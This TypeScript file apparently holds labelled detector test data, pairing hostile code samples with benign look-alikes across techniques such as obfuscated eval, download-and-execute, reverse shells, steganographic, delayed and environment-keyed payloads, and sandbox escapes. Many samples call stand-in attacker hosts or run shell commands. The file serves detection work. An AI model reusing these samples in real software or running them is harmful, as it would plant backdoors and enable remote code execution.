import { base64, codes, combine, DROP, hex, reversed, type Technique } from "./technique.ts";

const CODE = 'console.log("inert")';

/** Ways to keep code out of sight until it runs. */
const hiddenCode = [
  `atob("${base64(CODE)}")`,
  `Buffer.from("${base64(CODE)}", "base64").toString("utf8")`,
  `Buffer.from("${hex(CODE)}", "hex").toString()`,
  `String.fromCharCode(${codes(CODE)})`,
  `[${codes(CODE, 7)}].map((code) => String.fromCharCode(code - 7)).join("")`,
  `${JSON.stringify(reversed(CODE))}.split("").reverse().join("")`,
  `decodeURIComponent("${Array.from(CODE, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join("")}")`,
  `new TextDecoder().decode(Uint8Array.from([${codes(CODE)}]))`,
  `require("zlib").inflateSync(Buffer.from("eJxLzs8rzs9J1cvJT9dQysxLLSpRKE7MLchJVdIEAI6ICb0=", "base64")).toString()`,
];

const compilers: readonly ((code: string) => string)[] = [
  (code) => `eval(${code});`,
  (code) => `new Function(${code})();`,
  (code) => `(0, globalThis.eval)(${code});`,
  (code) => `require("vm").runInThisContext(${code});`,
  (code) => `setTimeout(${code}, 10);`,
  (code) => `const run = Function; const text = ${code}; run(text).call(null);`,
  (code) => `const m = new module.constructor(); m._compile(${code}, "x.js");`,
  (code) => `[].constructor.constructor(${code})();`,
];

const download = [
  `fetch("${DROP}/a.js").then((r) => r.text())`,
  `(async () => (await fetch("${DROP}/a.js")).text())()`,
  `require("axios").get("${DROP}/a.js").then((r) => r.data)`,
];

export const execution: readonly Technique[] = [
  {
    name: "obfuscated-eval",
    hostile: [
      ...combine(hiddenCode, compilers),
      { "x.py": `import base64\nexec(base64.b64decode("${base64("print(1)")}"))\n` },
      {
        "x.py": `import zlib, base64\neval(compile(zlib.decompress(base64.b64decode("eJwrKMrMK9Ew1AQAEuQC9w==")), "x", "exec"))\n`,
      },
      { "x.py": `exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n` },
      { "x.py": `import codecs\nexec(codecs.decode("cevag(1)", "rot13"))\n` },
      { "x.py": `exec(bytes.fromhex("7072696e74283129"))\n` },
      {
        "x.py": `_ = lambda __: __import__("zlib").decompress(__import__("base64").b64decode(__[::-1])); exec(_(b"==wABgAvAQCAAAA"))\n`,
      },
    ],
    honest: [
      "export const decode = (text) => JSON.parse(atob(text));",
      "export function compile(template) { const body = template.replace(/<%=(.+?)%>/g, (_, code) => `' + (${code}) + '`); return new Function(\"data\", `with (data) { return '${body}'; }`); }",
      'const logo = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64"); module.exports = { logo };',
      'export const globalObject = (() => { if (typeof globalThis !== "undefined") return globalThis; return Function("return this")(); })();',
      'export function parseToken(token) { const [, payload] = token.split("."); return JSON.parse(Buffer.from(payload, "base64url").toString("utf8")); }',
      'const greet = (name) => String.fromCharCode(72, 105) + " " + name; export default greet;',
      'export const hasEval = (() => { try { return new Function("return true")(); } catch { return false; } })();',
      'const makeGetter = (name) => new Function("object", `return object[${JSON.stringify(name)}];`); export default makeGetter;',
    ],
  },
  {
    name: "remote-code",
    hostile: [
      ...combine(download, [
        (load) => `${load}.then((code) => eval(code));`,
        (load) => `${load}.then((code) => new Function(code)());`,
        (load) => `${load}.then((code) => require("vm").runInNewContext(code, { require }));`,
      ]),
      `require("https").get("${DROP}/s.js", (res) => { let code = ""; res.on("data", (part) => { code += part; }); res.on("end", () => { eval(code); }); });`,
      `const s = document.createElement("script"); s.src = "${DROP}/s.js"; document.head.appendChild(s);`,
      `import("${DROP}/m.mjs").then((m) => m.default());`,
      `importScripts("${DROP}/w.js");`,
      `const ws = new WebSocket("wss://drop.example.invalid"); ws.onmessage = ({ data }) => Function(data)();`,
      `addEventListener("message", (event) => eval(event.data));`,
      `const es = new EventSource("${DROP}/e"); es.onmessage = (m) => { new Function("ctx", m.data)(globalThis); };`,
      `async function load() { const r = await fetch("${DROP}/c.json"); const { code } = await r.json(); return (0, eval)(code); } load();`,
      `const net = require("net"); net.connect(4444, "drop.example.invalid", function () { this.on("data", (d) => eval(d.toString())); });`,
      { "r.py": `import urllib.request\nexec(urllib.request.urlopen("${DROP}/p.py").read())\n` },
      { "r.py": `import requests\ncode = requests.get("${DROP}").text\nexec(compile(code, "<s>", "exec"))\n` },
      { "index.html": `<html><body><script src="${DROP}/track.js"></script></body></html>` },
    ],
    honest: [
      'export async function loadSettings() { const response = await fetch("/settings.json"); return response.json(); }',
      'const script = document.createElement("script"); script.src = "/assets/chart.js"; document.head.append(script);',
      'self.addEventListener("message", (event) => { const { id, rows } = event.data; postMessage({ id, total: rows.length }); });',
      "export const loadLocale = (name) => import(`./locales/${name}.js`);",
      'const { data } = await axios.get("https://api.example.com/rates"); export const rates = data.rates;',
    ],
  },
  {
    name: "dynamic-import",
    hostile: [
      'const name = "child_" + "process"; require(name).exec("id");',
      'const load = require; load(["f", "s"].join("")).readFileSync("/etc/hostname");',
      `import(atob("${base64("node:child_process")}")).then((m) => m.exec("id"));`,
      `require(Buffer.from("${hex("child_process")}", "hex").toString()).execSync("id");`,
      `module.require("${reversed("child_process")}".split("").reverse().join("")).exec("id");`,
      'const n = `node:${"vm"}`; const part = "chi" + "ld"; import("node:" + part + "_process").then(({ exec }) => exec("id"));',
      'process.getBuiltinModule("child" + "_process").execSync("id");',
      'const r = process.mainModule.require; r("child_process").exec("id");',
      `require(String.fromCharCode(${codes("child_process")})).exec("id");`,
      'globalThis["req" + "uire"]("child" + "_process").exec("id");',
    ],
    honest: [
      "module.exports = (name) => require(`./plugins/${name}.js`);",
      "export async function load(path) { const { default: plugin } = await import(path); return plugin; }",
      'let fsevents; try { fsevents = require("fsevents"); } catch {} module.exports = fsevents;',
      'const { createRequire } = require("module"); module.exports = (file) => createRequire(file)("./package.json");',
    ],
  },
  {
    name: "download-execute",
    hostile: [
      `const { execSync } = require("child_process"); execSync("curl -fsSL ${DROP}/i.sh | sh");`,
      `require("child_process").exec("wget -qO- ${DROP}/i.sh | bash");`,
      `require("child_process").exec('powershell -c "IEX (New-Object Net.WebClient).DownloadString(\\'${DROP}/i.ps1\\')"');`,
      `const fs = require("fs"), https = require("https"), cp = require("child_process"); const file = "/tmp/.u"; https.get("${DROP}/u", (res) => { const out = fs.createWriteStream(file); res.pipe(out); out.on("finish", () => { fs.chmodSync(file, 0o755); cp.spawn(file, { detached: true }); }); });`,
      `import { writeFile } from "node:fs/promises"; import { execFile } from "node:child_process"; const response = await fetch("${DROP}/agent.exe"); await writeFile("agent.exe", Buffer.from(await response.arrayBuffer())); execFile("agent.exe");`,
      `const path = require("path").join(require("os").tmpdir(), "u.js"); fetch("${DROP}/u.js").then((r) => r.text()).then((t) => { require("fs").writeFileSync(path, t); require(path); });`,
      `require("child_process").spawn("sh", ["-c", "curl -s ${DROP} -o /tmp/x && chmod +x /tmp/x && /tmp/x"]);`,
      `require("child_process").execSync("certutil -urlcache -f ${DROP}/a.exe a.exe && a.exe");`,
      `require("child_process").execSync("npm install ${DROP}/p.tgz && node -e \\"require('p')\\"");`,
      { "d.py": `import os\nos.system("curl ${DROP}/x | sh")\n` },
      {
        "d.py": `import urllib.request, subprocess, os\nurllib.request.urlretrieve("${DROP}/x", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nsubprocess.Popen(["/tmp/x"])\n`,
      },
      { "run.sh": `#!/bin/sh\ncurl -fsSL ${DROP}/i.sh | bash\n` },
    ],
    honest: [
      'const { execFile } = require("child_process"); module.exports = (file, done) => execFile("git", ["log", "--", file], done);',
      'import { writeFile } from "node:fs/promises"; export async function download(url, path) { const response = await fetch(url); await writeFile(path, Buffer.from(await response.arrayBuffer())); }',
      'const { spawnSync } = require("child_process"); exports.compile = (file) => spawnSync("cc", ["-O2", file, "-o", file + ".out"], { stdio: "inherit" });',
      { "build.sh": "#!/bin/sh\nset -e\nnpm ci\nnpm run build\ntar czf dist.tgz dist\n" },
    ],
  },
  {
    name: "reverse-shell",
    hostile: [
      'const net = require("net"), cp = require("child_process"); const sh = cp.spawn("/bin/sh", []); const client = new net.Socket(); client.connect(4444, "c2.example.invalid", () => { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });',
      'require("child_process").exec("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1");',
      'require("child_process").exec("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f");',
      'const ws = new (require("ws"))("wss://c2.example.invalid"); ws.on("message", (m) => require("child_process").exec(String(m), (e, out) => ws.send(out)));',
      'require("net").connect({ port: 9001, host: "c2.example.invalid" }, function () { const s = this; s.on("data", (d) => { s.write(require("child_process").execSync(d.toString())); }); });',
      'const io = require("socket.io-client")("https://c2.example.invalid"); io.on("cmd", (command) => { require("child_process").exec(command, (e, o) => io.emit("out", o)); });',
      `setInterval(async () => { const task = await (await fetch("${DROP}/task")).text(); require("child_process").exec(task, (e, out) => fetch("${DROP}/out", { method: "POST", body: out })); }, 30000);`,
      'const tls = require("tls"), { spawn } = require("child_process"); const sock = tls.connect(443, "c2.example.invalid"); const p = spawn("cmd.exe"); sock.pipe(p.stdin); p.stdout.pipe(sock);',
      {
        "s.py":
          'import socket, subprocess, os\ns = socket.socket()\ns.connect(("203.0.113.5", 4444))\nos.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)\nsubprocess.call(["/bin/sh", "-i"])\n',
      },
      {
        "s.py":
          'import socket, subprocess\ns = socket.create_connection(("c2.example.invalid", 1))\nwhile True:\n    cmd = s.recv(1024).decode()\n    s.send(subprocess.getoutput(cmd).encode())\n',
      },
    ],
    honest: [
      'const net = require("net"); net.createServer((socket) => { socket.on("data", (data) => socket.write(data)); }).listen(7);',
      'const { spawn } = require("child_process"); const shell = spawn("sh", ["-c", "ls | sort"]); shell.stdout.pipe(process.stdout);',
      'const http = require("http"), cp = require("child_process"); http.createServer((request, response) => { cp.execFile("uptime", (error, out) => response.end(out)); }).listen(8080);',
    ],
  },
  {
    name: "wasm-loader",
    hostile: [
      `fetch("${DROP}/m.wasm").then((r) => r.arrayBuffer()).then((b) => WebAssembly.instantiate(b, {})).then(({ instance }) => instance.exports.main());`,
      `WebAssembly.instantiateStreaming(fetch("${DROP}/m.wasm"), { env: { call: (p) => new Function(read(p))() } }); function read() { return ""; }`,
      `const bytes = Uint8Array.from(atob("AGFzbQEAAAABBAFgAAADAgEABwgBBG1haW4AAAoEAQIACw=="), (c) => c.charCodeAt(0)); WebAssembly.instantiate(bytes, { env: { exec: require("child_process").execSync } });`,
      `const code = Buffer.from("AGFzbQEAAAA=", "base64"); const m = new WebAssembly.Module(code); const i = new WebAssembly.Instance(m, { js: { eval } }); i.exports.run();`,
      `const https = require("https"); https.get("${DROP}/x.wasm", (r) => { const parts = []; r.on("data", (p) => parts.push(p)); r.on("end", () => WebAssembly.instantiate(Buffer.concat(parts), { env: { require } }).then((w) => w.instance.exports.start())); });`,
      `const memory = new WebAssembly.Memory({ initial: 1 }); WebAssembly.instantiate(require("fs").readFileSync(__dirname + "/logo.bin"), { env: { memory } }).then(({ instance }) => { const text = new TextDecoder().decode(new Uint8Array(memory.buffer, 0, instance.exports.len())); eval(text); });`,
    ],
    honest: [
      'import { readFile } from "node:fs/promises"; const bytes = await readFile(new URL("./codec.wasm", import.meta.url)); const { instance } = await WebAssembly.instantiate(bytes, { env: { memory: new WebAssembly.Memory({ initial: 2 }), abort() { throw new Error("abort"); } } }); export const encode = instance.exports.encode;',
      'export const load = async () => (await WebAssembly.instantiateStreaming(fetch(new URL("./a.wasm", import.meta.url)))).instance.exports;',
      "export const hasSimd = WebAssembly.validate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 5, 1, 96, 0, 1, 123, 3, 2, 1, 0, 10, 10, 1, 8, 0, 65, 0, 253, 15, 253, 98, 11]));",
    ],
  },
  {
    name: "steganography",
    hostile: [
      'const fs = require("fs"); const png = fs.readFileSync(__dirname + "/logo.png"); const at = png.lastIndexOf("IEND"); eval(png.slice(at + 8).toString());',
      'const data = require("fs").readFileSync("icon.png"); let code = ""; for (let i = 0; i < data.length; i += 8) { let byte = 0; for (let b = 0; b < 8; b++) byte = (byte << 1) | (data[i + b] & 1); code += String.fromCharCode(byte); } Function(code)();',
      'const canvas = document.createElement("canvas"); const ctx = canvas.getContext("2d"); const img = new Image(); img.onload = () => { ctx.drawImage(img, 0, 0); const { data } = ctx.getImageData(0, 0, 64, 64); let s = ""; for (let i = 0; i < data.length; i += 4) s += String.fromCharCode(data[i]); eval(s); }; img.src = "logo.png";',
      'import { readFileSync } from "node:fs"; const audio = readFileSync(new URL("./ding.wav", import.meta.url)); const text = audio.subarray(44).toString("latin1").replace(/[^\\x20-\\x7e]/g, ""); new Function(text)();',
      'const { PNG } = require("pngjs"); const image = PNG.sync.read(require("fs").readFileSync("banner.png")); let out = ""; for (let i = 3; i < image.data.length; i += 4) out += String.fromCharCode(255 - image.data[i]); require("vm").runInThisContext(out);',
      'const exif = require("exif-parser"); const tags = exif.create(require("fs").readFileSync(__dirname + "/photo.jpg")).parse().tags; eval(Buffer.from(tags.ImageDescription, "base64").toString());',
      'fetch("/logo.svg").then((r) => r.text()).then((svg) => { const hidden = svg.match(/<!--(.*?)-->/)[1]; Function(atob(hidden))(); });',
      {
        "s.py":
          'from PIL import Image\nimg = Image.open("logo.png")\nbits = "".join(str(p[0] & 1) for p in img.getdata())\nexec(bytes(int(bits[i:i+8], 2) for i in range(0, 256, 8)).decode())\n',
      },
    ],
    honest: [
      'import { readFile } from "node:fs/promises"; export const icon = async () => (await readFile(new URL("./icon.png", import.meta.url))).toString("base64");',
      'const canvas = document.createElement("canvas"); const context = canvas.getContext("2d"); context.drawImage(image, 0, 0); const { data } = context.getImageData(0, 0, 1, 1); export const average = [data[0], data[1], data[2]];',
      'const fs = require("fs"); exports.size = (file) => { const b = fs.readFileSync(file); return { width: b.readUInt32BE(16), height: b.readUInt32BE(20) }; };',
    ],
  },
  {
    name: "delayed-payload",
    hostile: [
      `setTimeout(() => { fetch("${DROP}").then((r) => r.text()).then(eval); }, 3600000);`,
      `if (Date.now() > 1893456000000) { require("child_process").exec("curl ${DROP} | sh"); }`,
      `const start = new Date("2027-01-01"); setInterval(() => { if (new Date() > start) import("${DROP}/x.mjs"); }, 60000);`,
      `if (new Date().getHours() > 22 || new Date().getHours() < 5) { eval(Buffer.from("${base64(CODE)}", "base64").toString()); }`,
      `const fs = require("fs"); const marker = "/tmp/.n"; const n = fs.existsSync(marker) ? Number(fs.readFileSync(marker, "utf8")) : 0; fs.writeFileSync(marker, String(n + 1)); if (n > 5) fetch("${DROP}").then((r) => r.text()).then((t) => new Function(t)());`,
      `if (Math.random() < 0.05) { require("child_process").execSync("curl -s ${DROP}/p | node"); }`,
      `const day = new Date().getDay(); day === 6 && import("${DROP}/s.mjs");`,
      `process.on("exit", () => {}); setTimeout(function later() { require("https").get("${DROP}", (r) => r.on("data", (d) => Function(d.toString())())); }, 864e5).unref();`,
      `let calls = 0; export function format(text) { calls += 1; if (calls === 1000) import("${DROP}/late.mjs"); return text.trim(); }`,
    ],
    honest: [
      "export const debounce = (run, ms = 250) => { let timer; return (...args) => { clearTimeout(timer); timer = setTimeout(() => run(...args), ms); }; };",
      "setInterval(() => cache.clear(), 3600000).unref(); const cache = new Map(); export default cache;",
      "export const isExpired = (token) => Date.now() > token.expiresAt; export const refresh = (token, renew) => (isExpired(token) ? renew(token) : token);",
      'const greeting = new Date().getHours() < 12 ? "Good morning" : "Good afternoon"; export default greeting;',
      "const wait = Math.random() * 1000; export const retry = (run) => new Promise((done) => setTimeout(() => done(run()), wait));",
    ],
  },
  {
    name: "environment-keyed",
    hostile: [
      `const crypto = require("crypto"); const key = crypto.createHash("sha256").update(require("os").hostname()).digest(); const d = crypto.createDecipheriv("aes-256-cbc", key, Buffer.alloc(16)); eval(d.update("00ff", "hex", "utf8") + d.final("utf8"));`,
      `if (require("os").userInfo().username === "builder") require("child_process").exec("curl ${DROP} | sh");`,
      `if (/corp\\.example/.test(require("os").hostname())) { fetch("${DROP}/stage2").then((r) => r.text()).then(eval); }`,
      `const { npm_package_description: d } = process.env; const c = require("crypto").createDecipher("aes256", d); let code = c.update("00", "hex", "utf8"); code += c.final("utf8"); module._compile(code, "");`,
      `if (process.env.GITHUB_REPOSITORY === "acme/site") { eval(atob("${base64(CODE)}")); }`,
      `const mac = Object.values(require("os").networkInterfaces()).flat()[0].mac; if (mac.startsWith("00:1b")) { import("${DROP}/a.mjs"); }`,
      `const key = process.env.npm_config_user_agent; const out = Buffer.from("0a0b", "hex").map((b, i) => b ^ key.charCodeAt(i)); new Function(out.toString())();`,
      `if (process.env.CI !== undefined || require("os").cpus().length < 2) process.exit(0); fetch("${DROP}/p").then((r) => r.text()).then((t) => Function(t)());`,
    ],
    honest: [
      'export const isCI = Boolean(process.env.CI); if (isCI) console.log("running in CI");',
      'const os = require("os"); module.exports = { hostname: os.hostname(), pid: process.pid };',
      'const crypto = require("crypto"); exports.decrypt = (key, iv, data) => { const d = crypto.createDecipheriv("aes-256-gcm", key, iv); return Buffer.concat([d.update(data), d.final()]); };',
      'const binary = process.platform === "win32" ? "tool.exe" : "tool"; module.exports = (args) => require("child_process").execFile(require("path").join(__dirname, "bin", binary), args);',
    ],
  },
  {
    name: "sandbox-escape",
    hostile: [
      'const p = this.constructor.constructor("return process")(); p.exit(0);',
      'export const run = () => (() => {}).constructor("return process")().mainModule.require("child_process").execSync("id");',
      'const f = [].filter.constructor; f("return globalThis")().process.exit();',
      "Error.prepareStackTrace = (e, frames) => frames[0].getThis(); const host = new Error().stack; host.process.exit();",
      "const F = Object.getPrototypeOf(async function () {}).constructor; F(\"return import('node:fs')\")();",
      'try { null.x; } catch (e) { e.constructor.constructor("return process.env")(); }',
      'const g = Reflect.get(Reflect.get({}, "constructor"), "constructor"); g("return this")().process.kill(1);',
      "function outer() { return inner.caller.arguments[0].constructor; } function inner() { return outer(); } inner();",
      'process.binding("spawn_sync").spawn({ file: "/bin/sh", args: ["sh", "-c", "id"], stdio: [] });',
      'const { Module } = require("module"); Module._load("child_process", null, true).exec("id");',
      'process.dlopen({ exports: {} }, "/tmp/a.node");',
      'export default (ctx) => ctx.log.constructor("return process")().env;',
      'const iframe = document.createElement("iframe"); document.body.append(iframe); const clean = iframe.contentWindow.eval; clean("top.document.cookie");',
      'const c = "const" + "ructor"; ({})[c][c]("return process")().exit();',
      { "e.py": '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "Popen"][0]("id", shell=True)\n' },
      { "e.py": '(lambda: 0).__globals__["__builtins__"]["__import__"]("os").system("id")\n' },
      { "e.py": "def g():\n    yield g.gi_frame.f_back.f_back.f_globals\nnext(g())\n" },
    ],
    honest: [
      "export class Base { clone() { return new this.constructor(this.options); } constructor(options) { this.options = options; } }",
      "export const isPlain = (value) => value?.constructor === Object || Object.getPrototypeOf(value) === null;",
      "class AppError extends Error { constructor(message) { super(message); this.name = this.constructor.name; Error.captureStackTrace?.(this, this.constructor); } } export default AppError;",
      "const AsyncFunction = (async () => {}).constructor; export const isAsync = (fn) => fn instanceof AsyncFunction;",
      'const frame = document.createElement("iframe"); frame.src = "/preview.html"; frame.addEventListener("load", () => frame.contentWindow.postMessage("ready", location.origin)); document.body.append(frame);',
    ],
  },
];
